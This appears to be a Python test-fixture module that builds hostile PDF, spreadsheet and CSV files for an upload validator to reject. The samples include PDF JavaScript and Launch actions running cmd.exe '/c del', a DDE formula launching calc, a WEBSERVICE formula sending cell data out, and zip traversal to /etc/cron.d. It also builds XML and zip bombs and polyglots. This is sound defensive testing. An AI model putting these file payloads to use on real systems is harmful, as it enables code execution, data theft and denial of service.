"""Files made to hurt, each with the reason it must be refused for. Made here; none lies in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import openpyxl
import xlsxwriter
from pypdf import PdfReader, PdfWriter

from app.documents.domain.files import Fault

F = Fault
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def pdf(catalog: bytes = b"", page: bytes = PAGE, pages: bytes = PAGES, *more: bytes, tail: bytes = b"") -> bytes:
    """A PDF of one page. `catalog` goes into the root; `more` are objects from number 4 on."""
    objects = (b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", pages, page, *more)
    made, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % at for at in places
    )
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(made))
    return made + table + end + tail


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (head, len(data), data)


def annotated(what: bytes) -> bytes:
    """A page with one annotation."""
    return PAGE[:-2] + b"/Annots[<</Type/Annot/Rect[0 0 9 9]" + what + b">>]>>"


def locked(user: str, owner: str) -> bytes:
    writer, made = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf()))), io.BytesIO()
    writer.encrypt(user, owner, algorithm="RC4-128")
    writer.write(made)
    return made.getvalue()


def hidden_in_object_stream() -> bytes:
    """The action lies packed, where looking at the bytes does not see it."""
    inner = zlib.compress(b"4 0 " + JS)
    made, places = b"%PDF-1.7\n", []
    for each in (
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>\nendobj\n",
        b"2 0 obj\n" + PAGES + b"\nendobj\n",
        b"3 0 obj\n" + PAGE + b"\nendobj\n",
        b"5 0 obj\n" + stream(inner, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") + b"\nendobj\n",
    ):
        places.append(len(made))
        made += each
    rows = [(0, 0, 255), *((1, at, 0) for at in places[:3]), (2, 5, 0), (1, places[3], 0), (1, len(made), 0)]
    table = b"".join(struct.pack(">BHB", *row) for row in rows)
    xref = stream(table, b"/Type/XRef/Size 7/W[1 2 1]/Root 1 0 R")
    return made + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref, len(made))


def updated_with_script() -> bytes:
    """A later revision gives the document a script."""
    first = pdf()
    place = len(first)
    new = b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction" + JS + b">>\nendobj\n"
    last = first.rindex(b"startxref") + 10
    before = int(first[last : first.index(b"\n", last)])
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\n" % (place, before)
    return first + new + table + b"startxref\n%d\n%%%%EOF\n" % (place + len(new))


def zipped(parts: dict[str, bytes] | list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as package:
        for name, data in parts.items() if isinstance(parts, dict) else parts:
            package.writestr(name, data)
    return made.getvalue()


def workbook(*rows: tuple[object, ...]) -> bytes:
    book, made = openpyxl.Workbook(), io.BytesIO()
    for row in rows or (("Kostnad", "Brukt"), ("Lønn", 1200)):
        book.active.append(row)
    book.save(made)
    return made.getvalue()


def with_all_sorts() -> bytes:
    """As another program writes them: a chart, a remark, a table, a list to choose from, a rule and a link."""
    made = io.BytesIO()
    book = xlsxwriter.Workbook(made, {"in_memory": True})
    sheet, chart = book.add_worksheet("Budsjett (2025)"), book.add_chart({"type": "column"})
    sheet.add_table("A1:B3", {"columns": [{"header": "Post (kr)"}, {"header": "Sum"}], "data": [["Lønn", 1]]})
    sheet.write_comment("A1", "Se https://kommunen.no (regnskap)")
    sheet.data_validation("A5", {"validate": "list", "source": ["Ja (alltid)", "Nei"]})
    sheet.conditional_format("B2:B3", {"type": "formula", "criteria": "=SUM($B2)>1", "format": book.add_format()})
    sheet.write_url("A6", "https://kommunen.no")
    chart.add_series({"values": "='Budsjett (2025)'!$B$2:$B$3"})
    sheet.insert_chart("D2", chart)
    book.define_name("Sum", "='Budsjett (2025)'!$B$2")
    book.close()
    return made.getvalue()


def changed(swap: dict[str, bytes] | None = None, **texts: tuple[bytes, bytes]) -> bytes:
    """The plain workbook with parts added or put in place of others; `types=(old, new)` edits the content types."""
    with zipfile.ZipFile(io.BytesIO(workbook())) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    parts |= swap or {}
    if "types" in texts:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(*texts["types"])
    return zipped(parts)


def marked_encrypted() -> bytes:
    """The flag of a password set on every part."""
    data = bytearray(workbook())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def damaged() -> bytes:
    """One byte of a stored part is another."""
    data = zipped({"[Content_Types].xml": b"x" * 50, "xl/workbook.xml": b"y" * 50}, zipfile.ZIP_STORED)
    return data.replace(b"x" * 50, b"x" * 49 + b"z", 1)


RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="https://example.invalid/x" TargetMode="External"/></Relationships>'
)
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ENCRYPTED_PACKAGE = OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(200)
MEGABYTES = 3 * 1024 * 1024


def pdfs() -> Iterator[tuple[str, str, bytes, Fault]]:
    """`what`, name, bytes, reason."""
    name = "revisor.pdf"
    for what, catalog, fault in (
        ("script when opened", b"/OpenAction" + JS, F.SCRIPT),
        ("script in the names", b"/Names<</JavaScript<</Names[(a)" + JS + b"]>>>>", F.SCRIPT),
        ("script with a disguised name", b"/OpenAction<</S/J#61vaScript/J#53(x)>>", F.SCRIPT),
        ("script that follows a move", b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next" + JS + b">>", F.SCRIPT),
        ("program is started", b"/OpenAction<</S/Launch/F(calc.exe)>>", F.LAUNCH),
        ("program with arguments", b"/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c del)>>>>", F.LAUNCH),
        ("other file is opened", b"/OpenAction<</S/GoToR/F(\\\\\\\\host\\\\share)/D[0/Fit]>>", F.LAUNCH),
        ("file within is opened", b"/OpenAction<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>", F.INSIDE),
        ("form is sent", b"/OpenAction<</S/SubmitForm/F(https://example.invalid)>>", F.SENDS),
        ("data is fetched", b"/OpenAction<</S/ImportData/F(a.fdf)>>", F.SENDS),
        ("files inside", b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)>>]>>>>", F.INSIDE),
        ("associated file", b"/AF[<</Type/Filespec/F(a)/EF<</F 4 0 R>>>>]", F.INSIDE),
        ("form of another kind", b"/AcroForm<</Fields[]/XFA(<xdp/>)>>", F.XFA),
    ):
        yield what, name, pdf(catalog), fault
    for what, page, fault in (
        ("script on a page", PAGE[:-2] + b"/AA<</O" + JS + b">>>>", F.SCRIPT),
        ("script on a click", annotated(b"/Subtype/Link/A" + JS), F.SCRIPT),
        ("file pinned on", annotated(b"/Subtype/FileAttachment"), F.INSIDE),
        ("rich media", annotated(b"/Subtype/RichMedia"), F.MOVING),
        ("screen", annotated(b"/Subtype/Screen"), F.MOVING),
        ("film", annotated(b"/Subtype/Movie"), F.MOVING),
        ("sound", annotated(b"/Subtype/Sound"), F.MOVING),
        ("3D", annotated(b"/Subtype/3D"), F.MOVING),
        ("film starts", annotated(b"/Subtype/Link/A<</S/Rendition/OP 0>>"), F.MOVING),
    ):
        yield what, name, pdf(b"", page), fault
    yield "script by reference", name, pdf(b"/OpenAction 4 0 R", PAGE, PAGES, b"<</S 5 0 R>>", b"/JavaScript"), F.SCRIPT
    yield "script nobody points at", name, pdf(b"", PAGE, PAGES, JS), F.SCRIPT
    yield "script packed away", name, hidden_in_object_stream(), F.SCRIPT
    yield "script in a later revision", name, updated_with_script(), F.SCRIPT
    yield "password", name, locked("hemmelig", "hemmelig"), F.LOCKED
    yield "locked for changes", name, locked("", "hemmelig"), F.LOCKED
    yield "cut off", name, pdf()[:-40], F.BROKEN
    yield "a head and an end", name, b"%PDF-1.7\n%%EOF\n", F.BROKEN
    yield "noise", name, b"%PDF-1.7\n" + bytes(range(1, 256)) * 4 + b"\n%%EOF\n", F.BROKEN
    yield "no page", name, pdf(b"", PAGE, b"<</Type/Pages/Kids[]/Count 0>>"), F.BROKEN
    kids = b"<</Type/Pages/Kids[3 0 R 4 0 R 5 0 R 6 0 R]/Count 4>>"
    yield "many pages", name, pdf(b"", PAGE, kids, PAGE, PAGE, PAGE), F.TOO_MUCH
    yield "package behind", name, pdf(tail=zipped({"a.txt": b"a"})), F.TWO_IN_ONE
    yield "web page behind", name, pdf(tail=b"<script>alert(1)</script>"), F.TWO_IN_ONE
    inside = pdf(b"", PAGE, PAGES, stream(b"PK"))
    yield "package round it", name, zip_round(inside), F.TWO_IN_ONE
    bomb = zlib.compress(bytes(MEGABYTES * 4), 9)
    yield "bomb", name, pdf(b"", PAGE, PAGES, stream(bomb, b"/Filter/FlateDecode")), F.BOMB
    twice = stream(zlib.compress(bomb), b"/Filter[/FlateDecode/FlateDecode]")
    yield "bomb in a bomb", name, pdf(b"", PAGE, PAGES, twice), F.BOMB
    for what, data in (
        ("web page", b"<!DOCTYPE html><script>alert(1)</script>"),
        ("program", b"MZ\x90\x00" + bytes(200)),
        ("picture with script", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("picture", b"\x89PNG\r\n\x1a\n" + bytes(50)),
        ("package", zipped({"a.txt": b"a"})),
        ("web page before", b"<html></html>" + pdf()),
    ):
        yield what, name, data, F.NOT_PDF


def zip_round(data: bytes) -> bytes:
    """A package whose comment reaches to the end of the PDF, so that both programs find theirs."""
    package = zipped({"a.txt": b"a"})
    body = pdf(b"", PAGE, PAGES, stream(package))
    del data
    end = body.rindex(b"PK\x05\x06")
    rest = len(body) - (end + 22)
    return body[: end + 20] + struct.pack("<H", rest) + body[end + 22 :]


def workbooks() -> Iterator[tuple[str, str, bytes, Fault]]:
    """`what`, name, bytes, reason."""
    name = "regnskap.xlsx"
    sheet = b"spreadsheetml.sheet.main+xml"
    for what, part, fault in (
        ("macros", "xl/vbaProject.bin", F.MACRO),
        ("old macros", "xl/macrosheets/sheet1.xml", F.MACRO),
        ("controls", "xl/activeX/activeX1.bin", F.MACRO),
        ("buttons of its own", "customUI/customUI.xml", F.MACRO),
        ("object inside", "xl/embeddings/oleObject1.bin", F.OBJECTS),
        ("another workbook", "xl/externalLinks/externalLink1.xml", F.LINKS),
        ("a database", "xl/connections.xml", F.LINKS),
        ("a query", "xl/queryTables/queryTable1.xml", F.LINKS),
    ):
        yield what, name, changed({part: b"<a/>"}), fault
    yield "macros by type", name, changed(types=(sheet, b"sheet.macroEnabled.main+xml")), F.MACRO
    yield "picture from elsewhere", name, changed({"xl/_rels/a.rels": RELS % b"image"}), F.LINKS
    yield "template from elsewhere", name, changed({"xl/_rels/a.rels": RELS % b"attachedTemplate"}), F.LINKS
    yield "starts a program", name, workbook(("=cmd|'/c calc'!A0", 1)), F.FORMULA
    yield "fetches", name, workbook(('=WEBSERVICE("https://example.invalid/"&A1)', 1)), F.FORMULA
    yield "password on the parts", name, marked_encrypted(), F.LOCKED
    yield "password", name, ENCRYPTED_PACKAGE, F.LOCKED
    yield "old Excel", name, OLE + bytes(600), F.NOT_XLSX
    yield "text document", name, changed(types=(sheet, b"wordprocessingml.document.main+xml")), F.NOT_XLSX
    yield "package", name, zipped({"a.txt": b"a"}), F.NOT_XLSX
    yield "web page", name, b"<html><table><tr><td>1</table>", F.NOT_XLSX
    yield "PDF", name, pdf(), F.NOT_XLSX
    yield "cut off", name, workbook()[:-200], F.BROKEN
    yield "changed byte", name, damaged(), F.BROKEN
    yield "no sheet where it says", name, changed({"xl/worksheets/sheet1.xml": b"<a"}), F.BROKEN
    yield "laughs", name, changed({"xl/sharedStrings.xml": LAUGHS}), F.BOMB
    yield "bomb", name, changed({"xl/media/a.bin": bytes(MEGABYTES)}), F.BOMB
    yield "many parts", name, zipped({f"xl/{n}.xml": b"" for n in range(2001)}), F.TOO_MUCH
    yield "many cells", name, workbook(*[(1, 2)] * 60), F.TOO_MUCH
    yield "way out", name, changed({"../../etc/cron.d/a": b"a"}), F.BROKEN
    yield "other alphabet", name, changed({"xl/styles.xml": "<a/>".encode("utf-16")}), F.BROKEN


def tables() -> Iterator[tuple[str, str, bytes, Fault]]:
    """`what`, name, bytes, reason."""
    name = "regnskap.csv"
    for what, data in (
        ("nought signs", b"a;b\n1;\x00\n"),
        ("program", b"MZ\x90\x00" + bytes(50)),
        ("web page", b"<html><body>;</body></html>"),
        ("picture with script", b"  <svg onload=alert(1)>;</svg>"),
        ("PDF", pdf()),
        ("spreadsheet", workbook()),
        ("no alphabet", b"a;b\n1;\x81\n"),
        ("unmarked UTF-16", "a;b\n1;2\n".encode("utf-16-le")),
        ("rich text", b"{\\rtf1;a}\n"),
    ):
        yield what, name, data, F.NOT_CSV
    yield "ragged", name, b"a;b\n1;2;3\n", F.SHAPE
    yield "a letter", name, "Kjære Helsedirektoratet\nHilsen oss\n".encode(), F.SHAPE
    yield "open quote", name, b'a;b\n"1;2\n', F.SHAPE
    yield "wide", name, b";" * 600 + b"\n", F.TOO_MUCH
